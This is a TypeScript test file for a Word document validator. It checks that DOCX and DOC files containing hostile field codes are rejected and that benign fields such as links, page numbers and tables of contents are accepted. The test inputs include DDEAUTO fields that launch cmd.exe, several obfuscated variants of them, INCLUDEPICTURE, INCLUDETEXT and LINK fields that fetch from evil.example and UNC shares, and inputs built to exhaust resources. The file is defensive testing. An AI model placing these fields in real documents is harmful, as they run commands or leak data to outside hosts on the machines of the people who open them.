import { describe, expect, test } from 'vitest';
import { docOf, docxOf, MAIN } from './test-kit';
import { isDoc, isDocx, textOfWord } from './word';

const begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>';
const separate = "<w:r><w:fldChar w:fldCharType = 'separate'/></w:r>";
const end = '<w:r><w:fldChar w:fldCharType="end"/></w:r>';
const code = (...pieces: string[]) =>
  pieces.map((text) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`).join('');
const shown = (text: string) => `<w:r><w:t>${text}</w:t></w:r>`;
const field = (inside: string, result = 'x') => `${begin}${inside}${separate}${shown(result)}${end}`;
/** Among the runs of a paragraph. */
const within = (xml: string) => `</w:t></w:r>${xml}<w:r><w:t>`;
const docx = (xml: string) => docxOf(['Ravi Rao', within(xml)]);
const simple = (instruction: string) => `<w:fldSimple w:instr='${instruction}'>${shown('x')}</w:fldSimple>`;

const DDE = String.raw`DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"`;
const part = (name: string, xml: string) => ({ name, content: `<w:hdr><w:p>${xml}</w:p></w:hdr>` });
const typed = (name: string, kind: string) =>
  `${MAIN}"/><Override PartName="/${name}" ContentType="${MAIN.replace('document.main', kind)}`;

const harmful: [string, Buffer][] = [
  ['DDEAUTO', docx(field(code(DDE)))],
  ['DDE in small letters, after spaces', docx(field(code('   dde excel "x"')))],
  ['DDEAUTO in pieces', docx(field(code('D', 'DEA', 'UTO cmd')))],
  [
    'DDEAUTO in pieces, with a remark',
    docx(field(code('DDE<!-- <w:fldChar w:fldCharType="end"/> -->AUTO cmd'))),
  ],
  ['DDEAUTO in other letters', docx(field(code('&#68;DE&#x41;UTO cmd')))],
  ['DDEAUTO behind a sign that ends no tag', docx(field(`<w:instrText a="PAGE>x">${DDE}</w:instrText>`))],
  ['DDEAUTO by other names', docx(field(code(DDE)).replaceAll('w:', 'a-b:'))],
  ['DDEAUTO that was struck out', docx(field(code(DDE).replaceAll('instrText', 'delInstrText')))],
  ['DDEAUTO without an end', docx(`${begin}${code(DDE)}`)],
  ['a simple DDEAUTO', docx(simple(DDE.replaceAll('"', '&quot;')))],
  ['DDEAUTO spelled by another field', docx(field(`${field(code('QUOTE 68 68 69'), 'DDE')}${code(' cmd')}`))],
  ['DDEAUTO within what another shows', docx(`${begin}${code('PAGE ')}${separate}${field(code(DDE))}${end}`)],
  ['DDEAUTO on top of its pages', docxOf(['x'], [part('word/header1.xml', field(code(DDE)))])],
  ['DDEAUTO in a footnote', docxOf(['x'], [part('word/footnotes.xml', field(code(DDE)))])],
  [
    'DDEAUTO in a part with another ending',
    docxOf(['x'], [part('word/top.bin', field(code(DDE)))], typed('word/top.bin', 'header')),
  ],
  ['text that is no text', docx(field('<w:instrText><![CDATA[DDEAUTO cmd]]></w:instrText>'))],
  [
    'letters of two bytes',
    docxOf(['x'], [{ name: 'word/header1.xml', content: Buffer.from('<a/>', 'utf16le') }]),
  ],
  ['fields without end', docx(begin.repeat(50_000) + end.repeat(50_000))],
  ['a picture from afar', docx(field(code('INCLUDEPICTURE "https://evil.example/a.png" \\d')))],
  ['a picture from a share', docx(field(code(String.raw`INCLUDEPICTURE \d "\\\\evil.example\\a.png"`)))],
  [
    'a picture whose address another field makes',
    docx(field(`${code('INCLUDEPICTURE ')}${field(code('QUOTE 1'), 'https://evil.example/a')}`)),
  ],
  ['a text from afar', docx(field(code('INCLUDETEXT "https://evil.example/a.docx"')))],
  ['a text of the reader', docx(field(code(String.raw`INCLUDETEXT "C:\\Users\\a.txt"`)))],
  [
    'a link to an object on a share',
    docx(field(code(String.raw`LINK Excel.Sheet.8 "\\\\evil.example\\a.xls"`))),
  ],
  [
    'a page in it',
    docxOf(
      ['x'],
      [
        {
          name: 'word/_rels/document.xml.rels',
          content:
            '<Relationships><Relationship Type="http://a.example/relationships/aFChunk" Target="/word/a.html"/></Relationships>',
        },
      ],
    ),
  ],
];

const harmless: [string, Buffer][] = [
  ['a link', docx(field(code('HYPERLINK "https://ravi.example/?q=DDEAUTO"'), 'My site'))],
  ['a page number', docx(simple(' PAGE   \\* MERGEFORMAT '))],
  [
    'a table of contents',
    docx(`${begin}${code('TOC \\o "1-3" \\h')}${separate}${field(code('HYPERLINK \\l "_a"'))}${end}`),
  ],
  [
    'a field in what another is made from',
    docx(field(`${code('IF ')}${field(code('PAGE'), '1')}${code(' = "1" "a" "b"')}`)),
  ],
  [
    'a picture that lay on their own disk',
    docx(field(code(String.raw`INCLUDEPICTURE "C:\\Users\\ravi\\me.png" \* MERGEFORMAT`))),
  ],
  [
    'a citation with a long text',
    docx(field(code(`ADDIN CSL_CITATION {"a":"https://a.example DDE ${'x'.repeat(20_000)}"}`))),
  ],
  ['words about it', docx(shown('I know DDE, DDEAUTO and INCLUDETEXT "https://a.example"'))],
  ['an empty field', docx(field(''))],
];

describe('a DOCX', () => {
  test.each(harmful)('attack 19: is refused with %s', async (_what, bytes) => {
    expect(await isDocx(bytes)).toBe(false);
  });

  test.each(harmless)('is taken with %s', async (_what, bytes) => {
    expect(await isDocx(bytes)).toBe(true);
    expect((await textOfWord(bytes))?.text).toContain('Ravi Rao');
  });
});

describe('a DOC', () => {
  test.each([
    ['DDEAUTO', `Ravi\r\x13 ${DDE} \x14x\x15\r`],
    ['a picture from afar', '\x13INCLUDEPICTURE "http://evil.example/a.png"\x14\x01\x15'],
    ['DDE spelled by another field', '\x13\x13 QUOTE 68 \x14DDE\x15 cmd\x14x\x15'],
  ])('attack 19: is refused with %s', (_what, text) => {
    expect(isDoc(docOf(text))).toBe(false);
    expect(isDoc(docOf('Ravi', text))).toBe(false);
  });

  test.each([
    ['a link and a page number', '\x13 HYPERLINK "http://a.example" \x13 PAGE \x14 7 \x15 \x14My site\x15'],
    ['a picture on their own disk', '\x13INCLUDEPICTURE "C:\\\\me.png"\x14\x01\x15'],
    ['words about it', 'DDEAUTO and INCLUDETEXT\r'],
  ])('is taken with %s', (_what, text) => {
    expect(isDoc(docOf(text))).toBe(true);
  });
});

test('attack 21: a document of fields alone is looked through once', async () => {
  const open = `${begin}${code('IF ')}`;
  const many = docx(`${field(code('PAGE')).repeat(30_000)}${open}${field(code('P')).repeat(10_000)}`);
  expect(await isDocx(many)).toBe(true);
});
